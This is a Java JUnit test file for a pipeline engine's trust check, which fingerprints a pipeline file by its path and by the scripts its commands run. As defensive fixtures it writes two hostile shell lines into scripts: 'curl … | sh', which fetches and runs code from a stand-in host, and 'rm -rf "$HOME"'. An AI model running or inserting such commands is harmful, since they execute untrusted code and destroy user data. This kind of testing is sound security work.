package baton.engine;

import baton.format.LoadedPipeline;
import baton.format.PipelineLoader;
import org.junit.jupiter.api.Test;

import java.nio.file.Files;
import java.nio.file.Path;

import static org.assertj.core.api.Assertions.assertThat;

/** The window's trust: a file is trusted at its path, with its content and the scripts its commands run. */
class TrustCheckTest extends EngineTestBase {
    private static final String LIGHTS = """
            pipeline: lights
            phases:
              - id: parse
                run: ./phases/parse.sh "$BATON_INPUT"
              - id: report
                needs: [parse]
                run: python3 'tools/report.py' --verbose > report.txt
              - id: cues
                needs: [parse]
                cwd: cues
                run: bash cue.sh 2>&1 | tee "$BATON_OUTPUT"
            """;

    /** A folder as a person would get it: the pipeline file and the scripts next to it. */
    private Path folder(String name, String parseScript) throws Exception {
        Path d = Files.createDirectories(dir.resolve(name));
        Files.createDirectories(d.resolve("phases"));
        Files.createDirectories(d.resolve("tools"));
        Files.createDirectories(d.resolve("cues"));
        Files.writeString(d.resolve("phases/parse.sh"), parseScript);
        Files.writeString(d.resolve("tools/report.py"), "print('report')\n");
        Files.writeString(d.resolve("cues/cue.sh"), "echo cue\n");
        Files.writeString(d.resolve("report.txt"), "an output of an earlier run\n");
        Files.writeString(d.resolve("lights.yaml"), LIGHTS);
        return d.resolve("lights.yaml");
    }

    private TrustCheck check(Path file) throws Exception {
        return f.engine.checkTrust(PipelineLoader.load(file));
    }

    private void trust(Path file) throws Exception {
        LoadedPipeline p = PipelineLoader.load(file);
        f.engine.trust(f.engine.checkTrust(p).fingerprint());
    }

    @Test
    void aFileNeverTrustedIsAFirstRunThatNamesTheScriptsItsCommandsRun() throws Exception {
        Path file = folder("show", "echo parse\n");
        TrustCheck c = check(file);
        assertThat(c.trusted()).isFalse();
        assertThat(c.firstRun()).isTrue();
        // the quoted word, the interpreter's argument and the phase's own cwd count; the redirection target and $BATON_INPUT do not
        assertThat(c.fingerprint().scripts().keySet()).containsExactly("phases/parse.sh", "tools/report.py", "cues/cue.sh");
        assertThat(c.fingerprint().sourcePath()).isEqualTo(file.toAbsolutePath().normalize().toString());
    }

    @Test
    void aTrustedFileStaysTrustedWhileItAndItsScriptsAreUnchanged() throws Exception {
        Path file = folder("show", "echo parse\n");
        trust(file);
        Files.writeString(file.resolveSibling("report.txt"), "a later run wrote this\n");
        assertThat(check(file).trusted()).isTrue();
        assertThat(check(file).changes()).isEmpty();
    }

    @Test
    void aByteIdenticalCopyNextToOtherScriptsIsNotTrustedAndTheChangeNamesTheScript() throws Exception {
        Path trusted = folder("show", "echo parse\n");
        trust(trusted);
        Path copy = folder("downloaded", "curl -s https://example.invalid/x | sh\n");
        assertThat(Files.readString(copy)).isEqualTo(Files.readString(trusted));

        TrustCheck c = check(copy);
        assertThat(c.trusted()).isFalse();
        assertThat(c.firstRun()).isFalse();
        assertThat(c.changes()).containsExactly(
                "a different file (" + copy.toAbsolutePath() + ") with the same content as " + trusted.toAbsolutePath() + ", which was trusted",
                "changed: phases/parse.sh");
    }

    @Test
    void aCopyWithTheSameScriptsIsStillAskedForBecauseItIsAnotherPlace() throws Exception {
        trust(folder("show", "echo parse\n"));
        TrustCheck c = check(folder("copy", "echo parse\n"));
        assertThat(c.trusted()).isFalse();
        assertThat(c.changes()).singleElement().asString().startsWith("a different file (");
    }

    @Test
    void anEditedScriptIsNotTrustedAndTheChangeNamesIt() throws Exception {
        Path file = folder("show", "echo parse\n");
        trust(file);
        Files.writeString(file.resolveSibling("cues/cue.sh"), "rm -rf \"$HOME\"\n");
        TrustCheck c = check(file);
        assertThat(c.trusted()).isFalse();
        assertThat(c.changes()).containsExactly("changed: cues/cue.sh");
        // once trusted again as it is now, it runs without asking
        trust(file);
        assertThat(check(file).trusted()).isTrue();
    }

    @Test
    void anEditedPipelineFileSaysSoAndNamesTheScriptsItNowRuns() throws Exception {
        Path file = folder("show", "echo parse\n");
        trust(file);
        Files.writeString(file.resolveSibling("phases/extra.sh"), "echo extra\n");
        Files.writeString(file, LIGHTS.replace("bash cue.sh", "bash ../phases/extra.sh"));
        assertThat(check(file).changes()).containsExactly("the pipeline file changed", "new file: phases/extra.sh", "no longer there: cues/cue.sh");
    }

    @Test
    void aScriptThatDisappearedAsksAgainAndSaysWhich() throws Exception {
        Path file = folder("show", "echo parse\n");
        trust(file);
        Files.delete(file.resolveSibling("tools/report.py"));
        assertThat(check(file).changes()).containsExactly("no longer there: tools/report.py");
    }
}
